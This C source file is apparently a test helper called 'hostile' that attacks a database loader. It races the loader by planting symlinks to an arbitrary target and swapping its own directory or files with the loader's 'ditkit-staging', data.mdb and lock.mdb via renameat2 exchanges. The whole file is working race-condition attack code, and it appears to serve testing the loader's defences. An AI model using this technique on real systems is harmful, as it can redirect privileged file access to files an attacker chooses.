/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The owner of a database directory, who exchanges a name in it while somebody else
 * loads:
 *
 *   hostile WAY DIR TARGET
 *
 *   blind     ditkit-staging for a directory in which data.mdb is a link to TARGET, as
 *             often as he can
 *   staging   the same, once for each ditkit-staging that is not his
 *   lock      lock.mdb for a link to TARGET, while there is a ditkit-staging
 *   data      data.mdb likewise
 *
 * Ends when it is killed.
 */
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define STAGING "ditkit-staging"

/* The link may be there already: then there is nothing to do. */
static void put_link(const char *target, const char *name)
{
	int r = symlink(target, name);

	(void)r;
}

/* Each may be taken away at any moment, and is made again. */
static void prepare_directory(const char *target)
{
	struct stat st;

	if (lstat("evil", &st) == 0 && st.st_uid != geteuid()) {
		(void)rmdir("evil"); /* theirs, from an earlier exchange */
	}
	if (mkdir("evil", 0777) == 0) {
		(void)chmod("evil", 0777);
	}
	put_link(target, "evil/data.mdb");
	put_link(target, "evil/lock.mdb");
}

static void exchange(const char *name)
{
	(void)renameat2(AT_FDCWD, "evil", AT_FDCWD, name, RENAME_EXCHANGE);
}

static bool is_foreign(const char *name)
{
	struct stat st;

	return lstat(name, &st) == 0 && st.st_uid != geteuid();
}

static void attack_staging(const char *target, bool is_blind)
{
	for (;;) {
		prepare_directory(target);
		while (!is_blind && !is_foreign(STAGING)) {
			/* Be quick: the load is about to use it. */
		}
		exchange(STAGING);
	}
}

static void attack_file(const char *name, const char *target)
{
	struct stat st;
	bool is_loading = false;
	bool is_link = false;

	for (;;) {
		put_link(target, "evil");
		is_loading = lstat(STAGING, &st) == 0;
		is_link = lstat(name, &st) == 0 && S_ISLNK(st.st_mode);
		if (is_link != is_loading) {
			exchange(name);
		}
		if (is_link && !is_loading) {
			(void)unlink(name); /* if there was nothing to exchange it with */
		}
	}
}

int main(int argc, char **argv)
{
	if (argc != 4 || chdir(argv[2]) != 0) {
		(void)fprintf(stderr,
		              "usage: hostile blind|staging|lock|data DIR TARGET\n");
		return 2;
	}
	if (strcmp(argv[1], "lock") == 0) {
		attack_file("lock.mdb", argv[3]);
	}
	if (strcmp(argv[1], "data") == 0) {
		attack_file("data.mdb", argv[3]);
	}
	attack_staging(argv[3], strcmp(argv[1], "blind") == 0);
}
